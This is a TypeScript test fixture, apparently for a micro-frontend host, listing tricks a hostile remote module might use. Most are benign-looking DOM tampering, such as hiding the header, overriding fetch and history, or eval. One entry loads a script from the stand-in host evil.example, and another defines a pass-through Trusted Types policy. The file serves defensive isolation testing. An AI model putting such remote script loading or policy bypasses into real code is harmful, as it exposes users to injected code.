import * as react from 'react';

const page = globalThis as unknown as Record<string, unknown>;
const header = () => document.querySelector('header') as HTMLElement;
const root = () => document.getElementById('root') as HTMLElement;

/** What a bad remote may try, by the name that the test uses. Each is code of this remote, in one of its files. */
export const deeds: Readonly<Record<string, () => void>> = {
  'replaces what the shell shares': () => {
    const useState = () => {
      throw new Error('bad: no state');
    };
    Object.assign(react as object, { useState });
  },
  'creates a policy of its own': () => {
    const { trustedTypes } = page as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
    trustedTypes.createPolicy('little-arches', { createScriptURL: (address: string) => address });
  },
  'loads a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/evil.js';
    document.head.append(script);
  },
  'writes HTML with a text': () => {
    root().innerHTML = '<h1>bad</h1>';
  },
  'runs a text with eval': () => {
    Reflect.apply(page.eval as typeof eval, undefined, ['document.title = "eval"']);
  },
  'adopts a style sheet': () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('header { display: none }');
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    document.adoptedStyleSheets.push(sheet);
  },
  'adopts a style sheet past the page': () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('header { display: none }');
    Object.getOwnPropertyDescriptor(Document.prototype, 'adoptedStyleSheets')?.set?.call(document, [sheet]);
  },
  'injects a style element': () => {
    const style = document.createElement('style');
    style.textContent = 'header { display: none }';
    document.head.append(style);
  },
  'fills an empty style element': () => {
    const style = document.createElement('style');
    document.head.append(style);
    style.sheet?.insertRule('header { display: none }');
  },
  "adds a rule to the page's styles": () => {
    document.styleSheets[0]?.insertRule('header { display: none !important }');
  },
  "changes a rule of the page's styles": () => {
    const own = [...(document.styleSheets[0]?.cssRules ?? [])].filter(
      (rule) => rule instanceof CSSStyleRule && rule.selectorText === `.${header().className}`,
    );
    for (const rule of own) (rule as CSSStyleRule).style.setProperty('display', 'none', 'important');
  },
  "removes the page's styles": () => {
    for (const style of document.querySelectorAll('head > style')) style.remove();
  },
  'hides the document': () => {
    document.documentElement.style.display = 'none';
    document.body.hidden = true;
    document.body.style.setProperty('transform', 'translateY(-5000px)');
  },
  'hides the header': () => {
    header().style.display = 'none';
    header().hidden = true;
    header().className = '';
    header().inert = true;
  },
  'removes the header': () => header().remove(),
  'empties the header': () => header().replaceChildren(),
  'moves the header away': () => document.body.append(header()),
  'empties the root': () => root().replaceChildren(),
  'replaces the root': () => root().replaceWith(document.createElement('main')),
  'puts a text in place of the frame': () => {
    root().textContent = 'bad';
  },
  'replaces the body': () => {
    document.body = document.createElement('body');
  },
  'empties the document': () => document.replaceChildren(),
  'removes the header again and again': () => {
    const again = () => {
      document.querySelector('header')?.remove();
    };
    new MutationObserver(again).observe(document, { childList: true, subtree: true });
    again();
  },
  'opens the document': () => void document.open(),
  'writes the document': () => {
    document.write('<h1>bad</h1>');
    document.close();
  },
  'replaces the history': () => {
    const nothing = () => {};
    Object.assign(history, { pushState: nothing, replaceState: nothing, go: nothing, back: nothing });
    Object.assign(History.prototype, { pushState: nothing, replaceState: nothing });
  },
  'replaces fetch': () => {
    window.fetch = () => Promise.reject(new TypeError('bad: no fetch'));
  },
  'leaves an interval': () => {
    setInterval(count, 50);
  },
  'leaves a chain of timeouts': () => {
    const tick = () => {
      count();
      setTimeout(tick, 50);
    };
    tick();
  },
};

function count(): void {
  page.ticks = Number(page.ticks ?? 0) + 1;
}
